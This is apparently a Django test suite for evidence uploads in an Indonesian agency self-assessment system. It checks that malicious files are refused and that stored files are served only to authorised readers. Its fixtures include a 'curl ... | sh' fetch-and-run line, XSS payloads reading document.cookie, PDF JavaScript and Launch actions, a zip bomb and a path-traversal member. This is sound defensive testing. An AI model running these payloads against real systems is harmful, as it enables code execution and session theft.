"""Evidence (bukti dukung) of the LKE: hostile files are refused by their content with a
reason and nothing stored, good files are kept with their SHA-256, links to the agency's own
records are offered and stored by URL name, files are served only to who may read the
agency (as a download, never sniffed), and only the self-assessment's side adds evidence."""

import hashlib
import io
import zipfile
import zlib
from unittest import mock

from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import SimpleTestCase
from django.urls import reverse
from PIL import Image

from evaluasi import alur
from evaluasi.bukti import periksa as modul_periksa
from evaluasi.bukti.periksa import BuktiDitolak, periksa
from evaluasi.models import BerkasBukti, BuktiDukung, Instrumen, KriteriaLke
from instansi.models import Pemeriksa
from tests.factories import buat_pemda
from tests.kasus import KasusInstansi, utama

TAHUN = 2022


def pdf(*objek: bytes, ekor: bytes = b"") -> bytes:
    """A small well-formed PDF (catalog, pages, one page, then `objek`), its cross-reference
    table at the right offsets, and `ekor` after its %%EOF."""
    semua = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        *objek,
    ]
    isi = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    letak = []
    for n, o in enumerate(semua, 1):
        letak.append(len(isi))
        isi += b"%d 0 obj\n" % n + o + b"\nendobj\n"
    xref = len(isi)
    isi += b"xref\n0 %d\n0000000000 65535 f \n" % (len(semua) + 1)
    isi += b"".join(b"%010d 00000 n \n" % x for x in letak)
    isi += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(semua) + 1, xref)
    return bytes(isi) + ekor


def objstm(isi: bytes) -> bytes:
    """A compressed object stream holding `isi` as its one object."""
    padat = zlib.compress(b"5 0 " + isi)
    return b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(padat),
        padat,
    )


def gambar(format="JPEG") -> bytes:
    keluaran = io.BytesIO()
    Image.new("RGB", (60, 40), "teal").save(keluaran, format)
    return keluaran.getvalue()


def zip_(anggota: dict[str, bytes], metode=zipfile.ZIP_DEFLATED) -> bytes:
    keluaran = io.BytesIO()
    with zipfile.ZipFile(keluaran, "w", metode) as z:
        for nama, isi in anggota.items():
            z.writestr(nama, isi)
    return keluaran.getvalue()


JENIS_KONTEN = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    b'wordprocessingml.document.main+xml"/></Types>'
)


def docx(tambahan: dict[str, bytes] | None = None) -> bytes:
    return zip_(
        {
            "[Content_Types].xml": JENIS_KONTEN,
            "_rels/.rels": b"<Relationships/>",
            "word/document.xml": b"<w:document><w:body><w:p>Laporan reviu</w:p></w:body></w:document>",
            "docProps/core.xml": b"<cp:coreProperties/>",
        }
        | (tambahan or {})
    )


def xlsx() -> bytes:
    import openpyxl

    buku = openpyxl.Workbook()
    buku.active["A1"] = "Realisasi"
    keluaran = io.BytesIO()
    buku.save(keluaran)
    return keluaran.getvalue()


def bom_docx() -> bytes:
    """A .docx whose document.xml inflates from some 20 KB to 20 MB of zeros."""
    keluaran = io.BytesIO()
    with zipfile.ZipFile(keluaran, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", JENIS_KONTEN)
        z.writestr("word/document.xml", b"\0" * (20 * 1024 * 1024))
    return keluaran.getvalue()


class PeriksaTests(SimpleTestCase):
    """The content check alone: what it accepts, and what it refuses without inflating."""

    def test_it_accepts_pdf_images_and_office_files_by_their_content(self):
        self.assertEqual(periksa(pdf()).jenis, "pdf")
        self.assertEqual(periksa(docx()).jenis, "docx")
        self.assertEqual(periksa(xlsx()).jenis, "xlsx")
        for format, jenis in [("PNG", "png"), ("JPEG", "jpeg"), ("WEBP", "webp")]:
            self.assertEqual(periksa(gambar(format)).jenis, jenis)

    def test_a_real_pdf_with_compressed_object_streams_passes(self):
        import weasyprint

        isi = weasyprint.HTML(string="<h1>LKjIP</h1><p>Bukti</p>").write_pdf(pdf_variant="pdf/a-3a")
        self.assertIn(b"/ObjStm", isi)
        self.assertEqual(periksa(isi).jenis, "pdf")

    def test_an_empty_or_unknown_file_is_refused(self):
        with self.assertRaisesMessage(BuktiDitolak, "kosong"):
            periksa(b"")
        with self.assertRaisesMessage(BuktiDitolak, "tidak dikenali"):
            periksa(b"Laporan kinerja 2022")

    def test_an_image_is_kept_as_its_re_encoded_pixels(self):
        asli = gambar("PNG")
        bersih = periksa(asli)
        self.assertEqual(bersih.sha256, hashlib.sha256(bersih.isi).hexdigest())
        self.assertEqual(Image.open(io.BytesIO(bersih.isi)).size, (60, 40))

    def test_active_content_is_refused_wherever_it_hides(self):
        kasus = {
            "plain": pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
            "name escaped": pdf(b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"),
            "in an object stream": pdf(objstm(b"<< /S /JavaScript /JS (app.alert(1)) >>")),
            "launch": pdf(b"<< /S /Launch /F (cmd.exe) >>"),
            "embedded file": pdf(b"<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream"),
        }
        for nama, isi in kasus.items():
            with self.subTest(nama), self.assertRaisesMessage(BuktiDitolak, "dapat dijalankan"):
                periksa(isi)

    def test_a_zip_bomb_is_refused_from_its_directory_without_inflating(self):
        bom = bom_docx()
        self.assertLess(len(bom), 200 * 1024)
        with (
            mock.patch.object(zipfile.ZipFile, "open", side_effect=AssertionError("inflated")),
            self.assertRaisesMessage(BuktiDitolak, "kemungkinan bom zip"),
        ):
            periksa(bom)

    def test_member_count_and_total_size_are_bounded(self):
        banyak = [zipfile.ZipInfo(f"word/media/{n}.png") for n in range(modul_periksa.ANGGOTA_MAKS + 1)]
        with self.assertRaisesMessage(BuktiDitolak, "terlalu banyak bagian"):
            modul_periksa._periksa_bom(banyak)
        besar = []
        for n in range(3):
            info = zipfile.ZipInfo(f"word/media/{n}.bin")
            info.file_size, info.compress_size = 40 * 1024 * 1024, 1024 * 1024
            besar.append(info)
        with self.assertRaisesMessage(BuktiDitolak, "terlalu besar setelah diekstrak"):
            modul_periksa._periksa_bom(besar)

    def test_office_files_with_macros_activex_or_foreign_members_are_refused(self):
        kasus = {
            "macro": (docx({"word/vbaProject.bin": b"\0" * 10}), "makro"),
            "macro content type": (
                zip_(
                    {
                        "[Content_Types].xml": JENIS_KONTEN.replace(b"main+xml", b"main.macroEnabled+xml"),
                        "word/document.xml": b"<w:document/>",
                    }
                ),
                "makro",
            ),
            "activex": (docx({"word/activeX/activeX1.bin": b"\0"}), "ActiveX"),
            "ole package": (docx({"word/embeddings/oleObject1.bin": b"\0"}), "objek OLE"),
            "foreign member": (docx({"halaman.html": b"<script>1</script>"}), "bukan bagian berkas Office"),
            "not office": (zip_({"a.txt": b"halo"}), "bukan berkas Office"),
            "path traversal": (docx({"word/../../etc/passwd": b"x"}), "tidak sah"),
        }
        for nama, (isi, pesan) in kasus.items():
            with self.subTest(nama), self.assertRaisesMessage(BuktiDitolak, pesan):
                periksa(isi)


class BuktiTests(KasusInstansi):
    """Through the screens: refusals store nothing, what is kept is served to readers only."""

    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        cls.pemeriksa_b = get_user_model().objects.create_user("pemeriksa-b", password="rahasia-pb-1")
        Pemeriksa.objects.create(user=cls.pemeriksa_b, pemda=cls.b.pemda)
        cls.instrumen = Instrumen.objects.filter(dasar__contains="88/2021").first()
        cls.evaluasi = alur.mulai(cls.perencana, cls.a, TAHUN, cls.instrumen)
        cls.kriteria = KriteriaLke.objects.filter(sub_komponen__komponen__evaluasi=cls.evaluasi).first()

    def alamat(self, nama="bukti-kriteria", *args):
        return reverse(nama, args=[self.a.slug, TAHUN, *(args or [self.kriteria.pk])])

    def unggah(self, nama: str, isi: bytes, **lain):
        data = {"versi": "0", "judul": "", "tautan_pilihan": "", **lain}
        if isi is not None:
            data["berkas_baru"] = SimpleUploadedFile(nama, isi, content_type="application/pdf")
        return self.client.post(self.alamat(), data)

    def test_hostile_files_are_refused_with_a_clear_message_and_nothing_is_stored(self):
        jpeg_zip = gambar("JPEG") + zip_({"index.html": b"<script>alert(1)</script>"})
        kasus = {
            "skrip.pdf": (b"#!/bin/sh\ncurl http://contoh.invalid | sh\n", "program atau skrip"),
            "halaman.html": (b"<!DOCTYPE html><html><script>alert(1)</script></html>", "HTML"),
            "laporan.pdf": (
                pdf(ekor=b"<html><script>alert(document.cookie)</script></html>"),
                "setelah akhir PDF",
            ),
            "foto.jpg": (jpeg_zip, "setelah akhir gambar"),
            "besar.pdf": (pdf() + b"%" + b"x" * (5 * 1024 * 1024), "terlalu besar"),
            "laporan.docx": (bom_docx(), "kemungkinan bom zip"),
            "aktif.pdf": (pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "JavaScript"),
            "lama.doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "format Office lama"),
        }
        for nama, (isi, pesan) in kasus.items():
            with self.subTest(nama):
                respons = self.unggah(nama, isi)
                self.assertEqual(respons.status_code, 200)
                self.assertIn(f"«{nama}» ditolak", utama(respons))
                self.assertIn(pesan, utama(respons))
        self.assertFalse(BerkasBukti.objects.exists())
        self.assertFalse(BuktiDukung.objects.exists())

    def test_a_good_file_is_stored_once_with_its_sha256_and_served_only_to_readers(self):
        isi = pdf()
        for _ in range(2):
            self.assertEqual(self.unggah("Reviu\t<LKjIP>.pdf", isi).status_code, 302)
        [berkas] = BerkasBukti.objects.all()
        self.assertEqual(berkas.sha256, hashlib.sha256(isi).hexdigest())
        self.assertEqual((berkas.jenis, berkas.ukuran), ("pdf", len(isi)))
        bukti = BuktiDukung.objects.first()
        self.assertEqual(bukti.nama_berkas, "Reviu<LKjIP>.pdf")
        halaman = utama(self.client.get(self.alamat()))
        self.assertIn(berkas.sha256[:12], halaman)
        self.assertNotIn("<LKjIP>", halaman)
        url = reverse("bukti-berkas", args=[self.a.slug, TAHUN, bukti.pk])
        for user in (self.perencana, self.pemeriksa, self.admin):
            self.masuk(user)
            respons = self.client.get(url)
            self.assertEqual(respons.status_code, 200, user)
            self.assertEqual(respons.content, isi)
            self.assertEqual(respons["Content-Type"], "application/pdf")
            self.assertTrue(respons["Content-Disposition"].startswith("attachment;"))
            self.assertEqual(respons["X-Content-Type-Options"], "nosniff")
            self.assertIn("sandbox", respons["Content-Security-Policy"])
        for user in (self.perencana_b, self.pemeriksa_b):
            self.masuk(user)
            self.assertEqual(self.client.get(url).status_code, 404, user)
            self.assertEqual(self.client.get(self.alamat()).status_code, 404, user)
        self.client.logout()
        self.assertEqual(self.client.get(url).status_code, 302)

    def test_links_to_the_agencys_records_are_offered_and_stored_by_url_name(self):
        halaman = utama(self.client.get(self.alamat()))
        for label in (
            "Renstra 2021–2026",
            "Perjanjian Kinerja 2022",
            "LKjIP 2022",
            "Realisasi 2022: Persentase",
        ):
            self.assertIn(label, halaman)
        kode = f"perjanjian-kinerja|{self.a.slug}|{TAHUN}"
        self.assertEqual(self.unggah("", None, tautan_pilihan=kode).status_code, 302)
        bukti = BuktiDukung.objects.get()
        self.assertEqual((bukti.tautan, bukti.tautan_argumen), ("perjanjian-kinerja", [self.a.slug, TAHUN]))
        self.assertEqual(bukti.judul, "Perjanjian Kinerja 2022: target")
        self.masuk(self.pemeriksa)
        halaman = utama(self.client.get(self.alamat()))
        self.assertIn(f'href="{reverse("perjanjian-kinerja", args=[self.a.slug, TAHUN])}"', halaman)

    def test_a_link_must_be_one_of_the_agencys_records_and_not_beside_a_file(self):
        asing = f"perjanjian-kinerja|{self.b.slug}|{TAHUN}"
        respons = self.unggah("", None, tautan_pilihan=asing)
        self.assertIn("bukan salah satu dari pilihan", utama(respons))
        kode = f"lkjip-html|{self.a.slug}|{TAHUN}"
        respons = self.unggah("a.pdf", pdf(), tautan_pilihan=kode)
        self.assertIn("bukan keduanya", utama(respons))
        self.assertIn("bukan keduanya", utama(self.unggah("", None)))
        self.assertFalse(BuktiDukung.objects.exists())

    def test_only_the_self_assessments_side_adds_or_removes_evidence_while_it_is_a_draft(self):
        self.masuk(self.pemeriksa)
        self.assertEqual(self.unggah("a.pdf", pdf()).status_code, 403)
        self.masuk(self.perencana)
        self.assertEqual(self.unggah("a.pdf", pdf()).status_code, 302)
        bukti = BuktiDukung.objects.get()
        alur.terapkan(self.perencana, self.evaluasi, "serahkan", "", self.evaluasi.versi)
        self.assertEqual(self.unggah("b.pdf", pdf(b"<< >>")).status_code, 403)
        hapus = self.alamat("bukti-hapus", bukti.pk)
        self.assertEqual(self.client.post(hapus, {"versi": bukti.versi}).status_code, 403)
        self.assertNotIn("Tambah bukti", utama(self.client.get(self.alamat())))
        self.assertEqual(BuktiDukung.objects.count(), 1)
        self.assertEqual(BerkasBukti.objects.count(), 1)

    def test_a_planner_removes_evidence_the_file_stays_for_the_history(self):
        self.unggah("a.pdf", pdf())
        bukti = BuktiDukung.objects.get()
        respons = self.client.post(self.alamat("bukti-hapus", bukti.pk), {"versi": bukti.versi})
        self.assertRedirects(respons, self.alamat())
        self.assertFalse(BuktiDukung.objects.exists())
        self.assertEqual(BerkasBukti.objects.count(), 1)
        self.assertEqual(BuktiDukung.history.filter(id=bukti.pk).count(), 2)

    def test_another_regions_reviewer_and_agency_get_404_from_every_evidence_page(self):
        self.unggah("a.pdf", pdf())
        bukti = BuktiDukung.objects.get()
        lain = buat_pemda("pemda-lain")
        self.assertNotEqual(lain.pk, self.a.pemda_id)
        for user in (self.perencana_b, self.pemeriksa_b):
            self.masuk(user)
            for url in (self.alamat(), self.alamat("bukti-hapus", bukti.pk)):
                self.assertEqual(self.client.get(url).status_code, 404, (user, url))
                self.assertEqual(self.client.post(url, {}).status_code, 404, (user, url))
